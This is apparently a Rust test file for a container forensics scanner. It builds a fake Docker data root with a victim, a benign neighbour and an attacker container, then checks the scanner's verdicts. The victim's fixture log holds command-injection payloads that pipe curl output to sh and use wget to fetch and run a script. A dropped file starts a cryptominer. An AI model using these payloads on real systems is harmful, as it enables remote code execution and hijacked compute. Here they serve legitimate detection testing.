//! One story per container on evidence of shapes the samples do not have: a Docker data root
//! holding a victim (busybox httpd `-vv`, statuses on later lines, IPv4-mapped clients), a
//! benign neighbour and the attacker's own container; two samples in one bundle; nothing
//! readable at all.

use std::path::Path;
use std::time::{Duration, SystemTime};

use serde_json::{json, Value};
use sha2::Digest;

use crate::util::{root, run_json, validate_against_schema, write_files};

fn sha(b: &[u8]) -> String {
    sha2::Sha256::digest(b).iter().map(|x| format!("{x:02x}")).collect()
}

const VICTIM: &str = "1111111111111111111111111111111111111111111111111111111111111111";
const NEIGHBOUR: &str = "2222222222222222222222222222222222222222222222222222222222222222";
const ATTACKER: &str = "3333333333333333333333333333333333333333333333333333333333333333";
const CACHE: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";

/// 2026-12-01T08:00:00Z
const T0: u64 = 1_796_112_000;

fn iso(secs: u64) -> String {
    let t = time::OffsetDateTime::from_unix_timestamp(secs as i64).unwrap();
    t.format(&time::format_description::well_known::Rfc3339).unwrap()
}

fn json_log(lines: &[(u64, &str, &str)]) -> Vec<u8> {
    let mut out = vec![];
    for (t, stream, text) in lines {
        let rec = json!({"log": format!("{text}\n"), "stream": stream, "time": iso(*t)});
        out.extend(serde_json::to_vec(&rec).unwrap());
        out.push(b'\n');
    }
    out
}

/// An overlay2 data root: three containers of one image on one daemon.
fn data_root(dir: &Path) {
    let diff = format!("sha256:{}", sha(b"layer"));
    let config = serde_json::to_vec(&json!({
        "architecture": "amd64", "os": "linux", "created": "2026-11-01T00:00:00Z",
        "config": {"Cmd": ["httpd", "-f", "-vv"]},
        "history": [{"created": "2026-11-01T00:00:00Z", "created_by": "ADD rootfs /"}],
        "rootfs": {"type": "layers", "diff_ids": [diff]},
    }))
    .unwrap();
    let id = sha(&config);
    let d = "var/lib/docker";
    let conf = |cid: &str, name: &str, ip: &str, cmd: &[&str]| {
        serde_json::to_vec(&json!({
            "ID": cid, "Name": format!("/{name}"), "Image": format!("sha256:{id}"),
            "Created": "2026-12-01T07:00:00Z", "Path": cmd[0], "Args": &cmd[1..],
            "Config": {"Image": "shop:1", "Cmd": cmd},
            "State": {"Running": true, "StartedAt": "2026-12-01T07:00:01Z"},
            "Driver": "overlay2",
            "NetworkSettings": {"Networks": {"bridge": {"IPAddress": ip}}},
        }))
        .unwrap()
    };
    // The victim's log: a scanner's injection answered 404, the attacker's answered 200, and
    // a benign request in between; busybox writes the status on a later line.
    let victim_log = json_log(&[
        (T0, "stderr", "[::ffff:198.51.100.77]:40100: url:/cgi-bin/ping?host=127.0.0.1;curl%20http://198.51.100.77/x|sh"),
        (T0, "stderr", "[::ffff:198.51.100.77]:40100: response:404"),
        (T0 + 60, "stderr", "[::ffff:203.0.113.50]:40200: url:/cgi-bin/ping?host=127.0.0.1;wget%20-q%20http://203.0.113.50:8000/k.sh%20-O%20/tmp/k.sh;sh%20/tmp/k.sh"),
        (T0 + 60, "stderr", "[::ffff:10.1.1.1]:40300: url:/index.html"),
        (T0 + 60, "stderr", "[::ffff:10.1.1.1]:40300: response:200"),
        (T0 + 61, "stderr", "[::ffff:203.0.113.50]:40200: response:200"),
    ]);
    let neighbour_log = json_log(&[(T0, "stdout", "GET / 200"), (T0 + 5, "stdout", "GET /health 200")]);
    let attacker_log = json_log(&[(T0 + 59, "stdout", "Serving HTTP on 0.0.0.0 port 8000")]);
    let mut files: Vec<(String, Vec<u8>)> = vec![
        (format!("{d}/image/overlay2/imagedb/content/sha256/{id}"), config.clone()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/diff", &diff[7..]), diff.clone().into_bytes()),
        (format!("{d}/image/overlay2/layerdb/sha256/{}/cache-id", &diff[7..]), CACHE.into()),
        (format!("{d}/overlay2/{CACHE}/diff/bin/busybox"), b"\x7fELF busybox".to_vec()),
        (format!("{d}/overlay2/{CACHE}/diff/www/index.html"), b"<html>shop</html>".to_vec()),
    ];
    for (cid, name, ip, cmd, log) in [
        (VICTIM, "shop", "172.17.0.2", &["httpd", "-f", "-vv"][..], victim_log),
        (NEIGHBOUR, "static", "172.17.0.3", &["httpd", "-f", "-vv"][..], neighbour_log),
        (ATTACKER, "kali", "203.0.113.50", &["python3", "-m", "http.server", "8000"][..], attacker_log),
    ] {
        let mount = format!("{}{}", &cid[..8], "b".repeat(56));
        files.push((format!("{d}/image/overlay2/layerdb/mounts/{cid}/mount-id"), mount.clone().into_bytes()));
        files.push((format!("{d}/containers/{cid}/config.v2.json"), conf(cid, name, ip, cmd)));
        files.push((
            format!("{d}/containers/{cid}/hostconfig.json"),
            br#"{"NetworkMode": "bridge"}"#.to_vec(),
        ));
        files.push((format!("{d}/containers/{cid}/{cid}-json.log"), log));
        files.push((format!("{d}/overlay2/{mount}/diff/etc/hostname"), name.as_bytes().to_vec()));
    }
    let victim_upper = format!("{d}/overlay2/{}{}/diff", &VICTIM[..8], "b".repeat(56));
    files.push((format!("{victim_upper}/tmp/k.sh"), b"#!/bin/sh\n/tmp/.m -o pool.example:3333 &\n".to_vec()));
    let refs: Vec<(&str, &[u8])> = files.iter().map(|(p, b)| (p.as_str(), b.as_slice())).collect();
    write_files(dir, &refs);
    // The dropped file was written two seconds after the attacker's request.
    let f = std::fs::File::options().write(true).open(dir.join(format!("{victim_upper}/tmp/k.sh"))).unwrap();
    f.set_modified(SystemTime::UNIX_EPOCH + Duration::from_secs(T0 + 62)).unwrap();
}

fn verdict<'a>(b: &'a Value, name: Option<&str>) -> &'a Value {
    b["verdicts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|v| v["container"].as_str() == name)
        .unwrap_or_else(|| panic!("no verdict for {name:?}: {:#}", b["verdicts"]))
}

#[test]
fn a_data_root_with_a_victim_a_neighbour_and_the_attacker() {
    let dir = tempfile::tempdir().unwrap();
    data_root(dir.path());
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let shop = verdict(b, Some("shop"));
    assert_eq!(shop["status"], "compromised", "{:#}", b["verdicts"]);
    // The way in is the attacker's injection (its file is in shop's own layer), not the
    // scanner's 404'd probe, and never a detection name.
    let way_in = shop["way_in"].as_str().unwrap();
    assert!(way_in.contains("203.0.113.50"), "{way_in}");
    let chain: Vec<&Value> =
        b["chain"].as_array().unwrap().iter().filter(|s| s["container"] == "shop").collect();
    assert_eq!(chain[0]["stage"], "way in");
    let attempts = b["attempts"].as_array().unwrap();
    let probe = attempts.iter().find(|a| a["source"] == "198.51.100.77").expect("the scanner's probe");
    assert_eq!(probe["outcome"], "failed", "{probe:#}");
    assert_eq!(probe["container"], "shop");
    // `::ffff:203.0.113.50` and `203.0.113.50` are one address.
    let hosts: Vec<&str> =
        b["hosts"].as_array().unwrap().iter().filter_map(|h| h["value"].as_str()).collect();
    assert!(!hosts.iter().any(|h| h.contains("::ffff:")), "{hosts:?}");
    // The neighbour served only benign requests; the attacker's container sent the traffic.
    assert_eq!(verdict(b, Some("static"))["status"], "no sign", "{:#}", b["verdicts"]);
    let kali = verdict(b, Some("kali"));
    assert_eq!(kali["status"], "attacker-side", "{kali:#}");
    // Every fact is some container's: none hangs on the bundle.
    for f in b["findings"].as_array().unwrap() {
        assert_eq!(f["owner"]["scope"], "container", "{f:#}");
    }
}

#[test]
fn two_samples_in_one_bundle_tell_two_stories() {
    let dir = tempfile::tempdir().unwrap();
    for s in ["dvwa", "log4shell"] {
        let to = dir.path().join(s);
        std::fs::create_dir_all(&to).unwrap();
        for e in walkdir::WalkDir::new(root().join("samples").join(s)) {
            let e = e.unwrap();
            let rel = e.path().strip_prefix(root().join("samples").join(s)).unwrap();
            if e.file_type().is_dir() {
                std::fs::create_dir_all(to.join(rel)).unwrap();
            } else {
                std::fs::copy(e.path(), to.join(rel)).unwrap();
            }
        }
    }
    let (v, _) = run_json(&["scan", dir.path().to_str().unwrap()]);
    validate_against_schema(&v);
    let b = &v["bundles"][0];
    let dvwa = verdict(b, Some("dvwa"));
    let app = verdict(b, Some("log4shell-app"));
    assert_eq!(dvwa["status"], "compromised");
    assert_eq!(app["status"], "compromised");
    assert!(app["way_in"].as_str().unwrap().contains("Log4Shell"), "{app:#}");
    assert!(dvwa["way_in"].as_str().unwrap().contains("injection"), "{dvwa:#}");
    let owner_of = |rule: &str| -> Vec<String> {
        b["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == rule)
            .map(|f| f["owner"]["name"].as_str().unwrap_or("?").to_string())
            .collect()
    };
    assert_eq!(owner_of("file.webshell.jsp"), ["log4shell-app"]);
    assert_eq!(owner_of("file.webshell.php"), ["dvwa"]);
    assert!(
        b["verdicts"].as_array().unwrap().iter().all(|v| v["container"].is_string()),
        "no bundle verdict"
    );
}

#[test]
fn nothing_read_is_inconclusive_with_its_own_exit_bit() {
    let empty = tempfile::tempdir().unwrap();
    let (v, code) = run_json(&["scan", empty.path().to_str().unwrap()]);
    assert_eq!(v["bundles"][0]["verdicts"][0]["status"], "inconclusive", "{:#}", v["bundles"][0]["verdicts"]);
    assert_eq!(code & 4, 4, "exit {code}");
    let random = tempfile::tempdir().unwrap();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let bytes: Vec<u8> = (0..1 << 20)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect();
    std::fs::write(random.path().join("blob.bin"), bytes).unwrap();
    let (v, code) = run_json(&["scan", random.path().join("blob.bin").to_str().unwrap()]);
    let verdict = &v["bundles"][0]["verdicts"][0];
    assert_eq!(verdict["status"], "inconclusive", "{verdict:#}");
    assert_eq!(code & 4, 4, "exit {code}");
    // Evidence that was read is never inconclusive as a whole.
    let (_, code) = run_json(&["scan", root().join("samples/dvwa").to_str().unwrap()]);
    assert_eq!(code & 4, 0, "exit {code}");
}
